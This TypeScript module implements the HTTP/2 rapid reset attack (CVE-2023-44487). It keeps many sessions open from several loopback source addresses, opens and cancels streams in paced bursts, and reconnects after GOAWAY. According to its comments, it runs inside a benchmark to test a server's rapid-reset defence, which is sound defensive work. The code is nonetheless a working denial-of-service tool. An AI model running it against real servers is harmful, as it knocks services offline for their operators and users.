/**
 * HTTP/2 rapid reset (CVE-2023-44487) as an attacker does it: many sessions,
 * each opening streams and resetting them at once, reconnecting whenever the
 * server sends GOAWAY. Runs in the bench process, from loopback source
 * addresses other than the measured client's (127.0.0.1), so the server's
 * per-peer session cap is not what stops it.
 */
import http2, { type ClientHttp2Session, type OutgoingHttpHeaders } from "node:http2";

export interface RapidResetOptions {
  baseUrl: string;
  /** Sessions kept open at once (a closed one is replaced). */
  sessions: number;
  /** Source addresses the sessions are spread over. */
  sources: string[];
  /** The request each stream starts before it is reset. */
  headers: OutgoingHttpHeaders;
  /** Streams each session opens and resets every `intervalMs`. */
  burst?: number;
  /**
   * Paced, not flat out: on a 2-core machine an attacker that takes a whole
   * core would measure the machine, not the server's defence.
   */
  intervalMs?: number;
}

export interface RapidResetStats {
  streamsReset: number;
  sessionsOpened: number;
  /** GOAWAYs with ENHANCE_YOUR_CALM: the server's rapid-reset defence (or its session caps). */
  goawaysEnhanceYourCalm: number;
  goawaysOther: number;
}

const { NGHTTP2_CANCEL, NGHTTP2_ENHANCE_YOUR_CALM } = http2.constants;
const ignore = () => undefined;

/** Starts the attack; stop() ends every session and returns what was done. */
export function startRapidReset(options: RapidResetOptions): { stop(): Promise<RapidResetStats> } {
  const stats: RapidResetStats = { streamsReset: 0, sessionsOpened: 0, goawaysEnhanceYourCalm: 0, goawaysOther: 0 };
  const burst = options.burst ?? 10;
  const intervalMs = options.intervalMs ?? 50;
  const live = new Set<ClientHttp2Session>();
  let stopped = false;

  const open = (slot: number): void => {
    if (stopped) return;
    const session = http2.connect(options.baseUrl, { localAddress: options.sources[slot % options.sources.length] } as http2.SecureClientSessionOptions);
    stats.sessionsOpened += 1;
    live.add(session);
    session.on("error", ignore);
    session.on("goaway", (code: number) => {
      if (code === NGHTTP2_ENHANCE_YOUR_CALM) stats.goawaysEnhanceYourCalm += 1;
      else stats.goawaysOther += 1;
    });
    session.once("close", () => {
      live.delete(session);
      // A refused attacker comes straight back.
      setImmediate(() => open(slot));
    });
    const pump = () => {
      if (stopped || session.closed || session.destroyed) return;
      try {
        for (let i = 0; i < burst; i += 1) {
          const stream = session.request(options.headers);
          stream.on("error", ignore);
          stream.close(NGHTTP2_CANCEL);
          stats.streamsReset += 1;
        }
      } catch {
        session.destroy(); // the session is going away: close brings a new one
        return;
      }
      setTimeout(pump, intervalMs);
    };
    session.once("connect", pump);
  };

  for (let slot = 0; slot < options.sessions; slot += 1) open(slot);
  return {
    async stop() {
      stopped = true;
      const closing = [...live].map((session) => new Promise((resolve) => session.once("close", resolve)));
      for (const session of live) session.destroy();
      await Promise.all(closing);
      return stats;
    },
  };
}
